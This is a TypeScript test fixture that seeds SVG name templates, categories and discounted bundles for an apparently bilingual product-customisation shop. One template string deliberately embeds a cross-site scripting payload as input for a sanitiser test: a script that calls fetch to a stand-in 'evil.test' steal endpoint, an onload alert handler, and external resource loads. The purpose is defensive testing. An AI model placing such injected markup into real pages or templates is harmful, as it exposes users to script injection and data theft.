import type { Db } from '@seed/db/client';
import { bundles, bundleTemplatesInventories } from '@seed/db/schema/bundles';
import { templateCategories, templates } from '@seed/db/schema/templates';
import type { TemplateControl } from '@seed/domain/template-controls';
import { eq } from 'drizzle-orm';
import type { Catalog } from '../../test/fixtures';

const svg = (body: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="600" viewBox="0 0 600 600">${body}</svg>`;
const nameText = `<text x="300" y="330" font-family="'Noto Sans Arabic', sans-serif" font-weight="700" font-size="110" fill="{{color}}" text-anchor="middle">{{text}}</text>`;

const controls = (maxLength: number): TemplateControl[] => [
  {
    name: 'text',
    type: 'text',
    labelEn: 'Name',
    labelAr: 'الاسم',
    required: true,
    maxLength,
    defaultValue: 'نورة',
  },
  {
    name: 'color',
    type: 'color',
    labelEn: 'Colour',
    labelAr: 'اللون',
    required: true,
    defaultValue: '#1f2937',
  },
];

/**
 * Templates for the bundle tests: a name template with a script, an event handler and external loads
 * smuggled in (the sanitiser must drop them), templates in a category, in its sub-category and in an
 * unrelated category; a bundle of two tees (the name template only) and a tote (any template of the
 * category), 15% off; and an inactive bundle.
 */
export async function insertBundleFixtures(db: Db, catalog: Catalog) {
  const [names, kids, other] = await db
    .insert(templateCategories)
    .values([
      { nameEn: 'Names', nameAr: 'أسماء', rank: 0 },
      { nameEn: 'Kids', nameAr: 'أطفال', rank: 1 },
      { nameEn: 'Sports', nameAr: 'رياضة', rank: 2 },
    ])
    .returning({ id: templateCategories.id });
  await db
    .update(templateCategories)
    .set({ parentTemplateCategoryId: names!.id })
    .where(eq(templateCategories.id, kids!.id));
  const [bigName, circle, kidsName, sports] = await db
    .insert(templates)
    .values([
      {
        templateCategoryId: names!.id,
        nameEn: 'Big name',
        nameAr: 'اسم كبير',
        rank: 0,
        templateControls: controls(12),
        templateHtmlCode: svg(
          `<script>fetch('https://evil.test/steal')</script><rect width="600" height="600" fill="none" onload="alert(1)" stroke="url(https://evil.test/x.svg)"/><image href="https://evil.test/x.png" width="10" height="10"/>${nameText}`,
        ),
      },
      {
        templateCategoryId: names!.id,
        nameEn: 'Name in a circle',
        nameAr: 'اسم داخل دائرة',
        rank: 1,
        templateControls: controls(16),
        templateHtmlCode: svg(
          `<circle cx="300" cy="300" r="220" fill="none" stroke="{{color}}" stroke-width="14"/>${nameText}`,
        ),
      },
      {
        templateCategoryId: kids!.id,
        nameEn: 'Little one',
        nameAr: 'الصغير',
        rank: 2,
        templateControls: controls(10),
        templateHtmlCode: svg(nameText),
      },
      {
        templateCategoryId: other!.id,
        nameEn: 'Team',
        nameAr: 'الفريق',
        rank: 3,
        templateControls: controls(10),
        templateHtmlCode: svg(nameText),
      },
    ])
    .returning({ id: templates.id });

  const [set, retired] = await db
    .insert(bundles)
    .values([
      { nameEn: 'Family set', nameAr: 'طقم العائلة', discountPercentage: 15, rank: 1, morphType: 'SET' },
      { nameEn: 'Old set', nameAr: 'طقم قديم', discountPercentage: 30, isActive: false },
    ])
    .returning({ id: bundles.id });
  const { tee, tote } = catalog.inventories;
  await db.insert(bundleTemplatesInventories).values([
    { bundleId: set!.id, inventoryId: tee, count: 2, templateId: bigName!.id },
    { bundleId: set!.id, inventoryId: tote, count: 1, templateCategoryId: names!.id },
    { bundleId: retired!.id, inventoryId: tee, count: 1, templateId: bigName!.id },
  ]);
  return {
    categories: { names: names!.id, kids: kids!.id, other: other!.id },
    templates: { bigName: bigName!.id, circle: circle!.id, kidsName: kidsName!.id, sports: sports!.id },
    bundles: { set: set!.id, retired: retired!.id },
  };
}

export type BundleFixtures = Awaited<ReturnType<typeof insertBundleFixtures>>;
